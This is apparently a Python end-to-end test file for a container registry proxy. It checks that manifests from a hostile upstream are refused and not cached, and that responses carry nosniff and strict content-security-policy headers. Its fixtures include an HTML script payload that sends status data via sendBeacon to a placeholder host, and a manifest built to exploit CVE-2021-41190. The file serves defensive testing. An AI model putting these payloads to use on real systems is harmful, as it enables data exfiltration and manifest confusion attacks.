"""A hostile upstream's "manifests" against the real proxy: refused, never cached, never served as a page.

The upstream sends each body with a Docker-Content-Digest that matches it, so
only the proxy's check of type and shape stands between it and the cache.
Every answer under /v2 and the token realm forbid sniffing and scripts; the
status page allows its own stylesheet and nothing else.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from aiohttp import web

from .admin import new_token
from .bgserver import BackgroundApp
from .http import call, get
from .proxyproc import ProxyFactory, ProxyProcess

API = {"Docker-Distribution-API-Version": "registry/2.0"}
OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
DOCKER_MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"
BLOB = b"a config blob"
BLOB_DIGEST = "sha256:" + hashlib.sha256(BLOB).hexdigest()
DESCRIPTOR = {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": BLOB_DIGEST, "size": len(BLOB)}
GOOD = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": DESCRIPTOR, "layers": []}).encode()
SCRIPT_PAGE = b"<html><script>fetch('/status.json').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))" \
              b"</script></html>"
# tag: (body, Content-Type)
HOSTILE = {
    "html": (SCRIPT_PAGE, "text/html"),
    # CVE-2021-41190: one digest that is an image to one client and an index to another.
    "both": (json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": DESCRIPTOR, "layers": [],
                         "manifests": [DESCRIPTOR]}).encode(), OCI_MANIFEST),
    "contradicting": (json.dumps({"schemaVersion": 2, "mediaType": DOCKER_MANIFEST, "config": DESCRIPTOR,
                                  "layers": []}).encode(), OCI_INDEX),
    "gzip": (gzip.compress(GOOD), OCI_MANIFEST),
    "not-json": (b"schemaVersion: 2", OCI_MANIFEST),
}
SERVED = {**HOSTILE, "good": (GOOD, OCI_MANIFEST)}
REPO = "/v2/hostile.example/org/app"


def digest(body: bytes) -> str:
    return "sha256:" + hashlib.sha256(body).hexdigest()


@dataclass
class Hostile:
    gets: Counter[str] = field(default_factory=Counter)
    server: BackgroundApp | None = None

    async def handle(self, request: web.Request) -> web.Response:
        if request.path == "/v2/":
            return web.json_response({}, headers=API)
        if request.path == f"/v2/org/app/blobs/{BLOB_DIGEST}":
            return web.Response(body=BLOB, headers={**API, "Content-Type": "text/html",
                                                    "Docker-Content-Digest": BLOB_DIGEST})
        reference = request.path.rpartition("/manifests/")[2]
        tag = next((t for t, (body, _) in SERVED.items() if digest(body) == reference), reference)
        body, content_type = SERVED.get(tag, (b"", ""))
        if not body:
            return web.json_response({"errors": [{"code": "MANIFEST_UNKNOWN", "message": "no"}]}, status=404,
                                     headers=API)
        if request.method == "GET":
            self.gets[tag] += 1
        return web.Response(body=body, headers={**API, "Content-Type": content_type,
                                                "Docker-Content-Digest": digest(body)})


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    fake = Hostile()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", fake.handle)
    fake.server = BackgroundApp(app, name="e2e-hostile-upstream")
    yield fake
    fake.server.stop()


@pytest.fixture
def proxy(hostile: Hostile, make_proxy: ProxyFactory) -> ProxyProcess:
    assert hostile.server is not None
    return make_proxy({"status": {"public": True}, "metrics": {"public": True},
                       "registries": [{"address": "hostile.example", "endpoint": hostile.server.url}]},
                      env={"REGISTRY_PROXY_ADMIN_TOKEN": new_token()})


def cached_manifests(proxy: ProxyProcess) -> list[str]:
    return sorted(p.name for p in (proxy.data_dir / "cache" / "manifests").rglob("*") if p.is_file())


@pytest.mark.parametrize("tag", sorted(HOSTILE))
def test_a_hostile_manifest_is_refused_and_not_cached(tag: str, hostile: Hostile, proxy: ProxyProcess) -> None:
    for attempt in (1, 2):
        reply = get(proxy.host, f"{REPO}/manifests/{tag}")
        assert reply.status == 502 and reply.error_codes == ["MANIFEST_INVALID"], (attempt, reply)
        assert "hostile.example" in reply.error_message
        assert reply.headers["content-type"] == "application/json"
        assert b"<script" not in reply.body
        # Not cached: the second request goes upstream again.
        assert hostile.gets[tag] == attempt
    head = call(proxy.host, "HEAD", f"{REPO}/manifests/{tag}")
    # A HEAD carries no body to check; one of an unregistered type is checked with a GET (one more upstream).
    assert head.status == (502 if tag == "html" else 200)
    assert cached_manifests(proxy) == []
    by_digest = get(proxy.host, f"{REPO}/manifests/{digest(HOSTILE[tag][0])}")
    assert by_digest.status == 502 and by_digest.error_codes == ["MANIFEST_INVALID"]
    assert hostile.gets[tag] == (4 if tag == "html" else 3) and cached_manifests(proxy) == []


def test_registry_answers_forbid_sniffing_and_scripts(hostile: Hostile, proxy: ProxyProcess) -> None:
    good = get(proxy.host, f"{REPO}/manifests/good")
    assert good.status == 200 and good.body == GOOD and good.headers["content-type"] == OCI_MANIFEST
    answers = {
        "manifest": good,
        "warm manifest": get(proxy.host, f"{REPO}/manifests/good"),
        "manifest HEAD": call(proxy.host, "HEAD", f"{REPO}/manifests/good"),
        "refused manifest": get(proxy.host, f"{REPO}/manifests/html"),
        "unknown manifest": get(proxy.host, f"{REPO}/manifests/missing"),
        "blob": get(proxy.host, f"{REPO}/blobs/{BLOB_DIGEST}"),
        "warm blob": get(proxy.host, f"{REPO}/blobs/{BLOB_DIGEST}"),
        "blob HEAD": call(proxy.host, "HEAD", f"{REPO}/blobs/{BLOB_DIGEST}"),
        "ping": get(proxy.host, "/v2/"),
        "not an API path": get(proxy.host, "/v2/nothing"),
        "write": call(proxy.host, "PUT", f"{REPO}/manifests/good"),
        "token realm": get(proxy.host, "/auth/token?service=x"),
    }
    for name, reply in answers.items():
        assert reply.headers.get("x-content-type-options") == "nosniff", name
        policy = reply.headers.get("content-security-policy", "")
        assert "default-src 'none'" in policy and "sandbox" in policy, name
    assert answers["blob"].headers["content-type"] == "application/octet-stream"


def test_the_status_page_allows_its_own_stylesheet_only(proxy: ProxyProcess) -> None:
    pages = [get(proxy.host, "/") for _ in range(2)]
    nonces = []
    for page in pages:
        assert page.status == 200 and page.headers["x-content-type-options"] == "nosniff"
        policy = page.headers["content-security-policy"]
        [nonce] = re.findall(r"style-src 'nonce-([A-Za-z0-9_-]+)'", policy)
        assert "default-src 'none'" in policy and "script-src" not in policy
        assert f'<style nonce="{nonce}">' in page.body.decode()
        assert page.body.decode().count("<style") == 1 and "<script" not in page.body.decode()
        assert " style=" not in page.body.decode()
        nonces.append(nonce)
    assert nonces[0] != nonces[1]
    for path in ("/status.json", "/metrics"):
        reply = get(proxy.host, path)
        assert reply.status == 200 and reply.headers["x-content-type-options"] == "nosniff", path
